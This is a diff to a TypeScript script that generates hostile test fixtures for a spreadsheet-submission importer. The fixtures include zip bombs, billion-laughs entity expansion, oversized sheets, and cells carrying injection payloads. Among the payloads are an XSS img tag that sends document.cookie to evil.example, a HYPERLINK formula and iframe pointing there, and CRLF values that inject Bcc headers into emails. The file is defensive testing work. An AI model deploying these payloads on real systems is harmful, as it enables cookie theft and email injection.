@@ -1,7 +1,7 @@
 /**
  * Writes the corpus of hostile and broken submissions in test/fixtures/bad/ (`npm run
  * fixtures`). Each file is what some office or some attacker could really send; the test of
- * each is in test/adapters/bad-files.test.ts, and `npm run chaos` tries them all.
+ * each is in test/adapters/xlsx/bad-files.test.ts, and `npm run chaos` tries them all.
  *
  * Two kinds: files that are not readable workbooks (random bytes, truncated, CSV, zip bombs,
  * entity expansion, a million rows…), written as raw zips; and readable submissions with
@@ -14,7 +14,7 @@ import { join } from 'node:path';
 import { deflateRawSync } from 'node:zlib';
 import ExcelJS from 'exceljs';
 import { SHEET_NAMES } from '../sheets-templates/submission-template.js';
-import { exampleConfigPath, packageRoot } from '../src/adapters/package-files.js';
+import { exampleConfigPath, packageRoot } from '../src/adapters/local/package-files.js';
 
 const OUT = join(packageRoot(), 'test', 'fixtures', 'bad');
 const BASE = join(exampleConfigPath(), '..', 'submissions', 'engagement-01.xlsx');
@@ -89,6 +89,10 @@ export function zipArchive(inputs: ZipInput[]): Buffer {
   return Buffer.concat([...locals, directory, end]);
 }
 
+const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';
+const PACKAGE_RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const SPREADSHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+
 /** The parts of a workbook with one sheet (`sheetXml`), and shared strings when given. */
 export function workbookParts(
   sheetName: string,
@@ -103,19 +107,30 @@ export function workbookParts(
     {
       name: '[Content_Types].xml',
       content:
-        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+        `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
+        '<Default Extension="xml" ContentType="application/xml"/>' +
+        `<Override PartName="/xl/workbook.xml" ContentType="${SPREADSHEET_TYPE}.sheet.main+xml"/>` +
+        `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${SPREADSHEET_TYPE}.worksheet+xml"/>` +
+        '</Types>',
     },
     {
       name: '_rels/.rels',
-      content: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+      content:
+        `${XML_DECLARATION}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}">` +
+        `<Relationship Id="rId1" Type="${ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
     },
     {
       name: 'xl/workbook.xml',
-      content: `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${ns}"><sheets><sheet name="${sheetName}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+      content:
+        `${XML_DECLARATION}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
+        `xmlns:r="${ns}"><sheets><sheet name="${sheetName}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
     },
     {
       name: 'xl/_rels/workbook.xml.rels',
-      content: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/worksheet" Target="worksheets/sheet1.xml"/>${strings}</Relationships>`,
+      content:
+        `${XML_DECLARATION}<Relationships xmlns="${PACKAGE_RELATIONSHIPS}">` +
+        `<Relationship Id="rId1" Type="${ns}/worksheet" Target="worksheets/sheet1.xml"/>${strings}</Relationships>`,
     },
     ...(options.sharedStrings
       ? [{ name: 'xl/sharedStrings.xml', content: options.sharedStrings }]
@@ -129,7 +144,8 @@ export function workbookParts(
 }
 
 const SHEET_OPEN =
-  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
+  `${XML_DECLARATION}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
+  '<sheetData>';
 const SHEET_CLOSE = '</sheetData></worksheet>';
 
 /** A sheet XML of `bytes` bytes that deflates to almost nothing (spaces between rows). */
@@ -178,31 +194,52 @@ async function brokenFiles(): Promise<Record<string, Buffer>> {
       workbookParts(ACTIONS, bombSheet(150 * 1024 * 1024), { declaredSheetSize: 4096 }),
     ),
     'xml-entity-expansion.xlsx': zipArchive(
-      workbookParts(ACTIONS, `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`, {
-        sharedStrings: billionLaughs,
-      }),
+      workbookParts(
+        ACTIONS,
+        `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`,
+        {
+          sharedStrings: billionLaughs,
+        },
+      ),
     ),
     // Rows without numbers are legal OOXML: a million of them deflate to a few kilobytes.
     'million-rows.xlsx': zipArchive(
-      workbookParts(ACTIONS, `${SHEET_OPEN}${'<row><c><v>1</v></c></row>'.repeat(1_000_000)}${SHEET_CLOSE}`),
-    ),
-    'too-many-columns.xlsx': zipArchive(
       workbookParts(
         ACTIONS,
-        `${SHEET_OPEN}<row r="1">${Array.from({ length: 150 }, (_, i) => `<c r="${columnName(i + 1)}1"><v>${i}</v></c>`).join('')}</row>${SHEET_CLOSE}`,
+        `${SHEET_OPEN}${'<row><c><v>1</v></c></row>'.repeat(1_000_000)}${SHEET_CLOSE}`,
       ),
+    ),
+    'too-many-columns.xlsx': zipArchive(
+      workbookParts(ACTIONS, `${SHEET_OPEN}<row r="1">${cellsOfRow(1, 150)}</row>${SHEET_CLOSE}`),
     ),
     // Within the row and column limits, but 260,000 filled cells: more than memory allows.
     'too-many-cells.xlsx': zipArchive(
-      workbookParts(ACTIONS, `${SHEET_OPEN}${`<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(2_600)}${SHEET_CLOSE}`),
+      workbookParts(
+        ACTIONS,
+        `${SHEET_OPEN}${`<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(2_600)}${SHEET_CLOSE}`,
+      ),
     ),
     'cell-over-32767.xlsx': zipArchive(
-      workbookParts(ACTIONS, `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`, {
-        sharedStrings: `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${'x'.repeat(40_000)}</t></si></sst>`,
-      }),
+      workbookParts(
+        ACTIONS,
+        `${SHEET_OPEN}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_CLOSE}`,
+        {
+          sharedStrings:
+            `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` +
+            `count="1" uniqueCount="1"><si><t>${'x'.repeat(40_000)}</t></si></sst>`,
+        },
+      ),
     ),
   };
-} // prettier-ignore
+}
+
+/** Row `row`'s first `count` cells, each holding its column's index. */
+function cellsOfRow(row: number, count: number): string {
+  return Array.from(
+    { length: count },
+    (_, i) => `<c r="${columnName(i + 1)}${row}"><v>${i}</v></c>`,
+  ).join('');
+}
 
 function columnName(n: number): string {
   let name = '';
@@ -241,7 +278,7 @@ export const CONTENT_FIXTURES: Record<string, { id: number; edit: Edit }> = {
         for (let r = 2; r <= ws.actualRowCount; r++) {
           ws.getRow(r).eachCell((cell) => {
             const value = cell.value;
-            if (value === null || typeof value === 'object' && !(value instanceof Date)) return;
+            if (value === null || (typeof value === 'object' && !(value instanceof Date))) return;
             const formula =
               typeof value === 'number'
                 ? String(value)
@@ -260,11 +297,13 @@ export const CONTENT_FIXTURES: Record<string, { id: number; edit: Edit }> = {
     id: 102,
     edit: ({ actions, milestones }) => {
       actions.getCell('C2').value = '<script>alert("ogp")</script>Atelier <b>de lancement</b>';
-      actions.getCell('C3').value = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
+      actions.getCell('C3').value =
+        '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
       actions.getCell('Q2').value = '=HYPERLINK("https://evil.example/","Cliquez ici")';
       // An error quotes what was typed: the feedback email must show it, escaped.
       actions.getCell('F3').value = '<script>alert(1)</script>';
-      milestones.getCell('B2').value = '</td></tr></table><iframe src="https://evil.example/"></iframe>';
+      milestones.getCell('B2').value =
+        '</td></tr></table><iframe src="https://evil.example/"></iframe>';
     },
   },
   'crlf-names-emails.xlsx': {
@@ -273,7 +312,8 @@ export const CONTENT_FIXTURES: Record<string, { id: number; edit: Edit }> = {
       engagement.getCell('B4').value = 'Nadia El Idrissi\r\nBcc: tous@evil.example';
       engagement.getCell('B5').value = 'nadia.idrissi@example.org\r\nBcc: tous@evil.example';
       // Line breaks inside a title are legitimate: kept.
-      actions.getCell('C2').value = 'Atelier de lancement\r\nSubject: faux sujet\r\n\r\ncorps injecté';
+      actions.getCell('C2').value =
+        'Atelier de lancement\r\nSubject: faux sujet\r\n\r\ncorps injecté';
     },
   },
   'rtl-override.xlsx': {
@@ -301,7 +341,7 @@ export const CONTENT_FIXTURES: Record<string, { id: number; edit: Edit }> = {
       actions.getCell('C3').value = long('Intitulé interminable ');
     },
   },
-}; // prettier-ignore
+};
 
 async function main(): Promise<void> {
   for (const [name, bytes] of Object.entries(await brokenFiles())) {
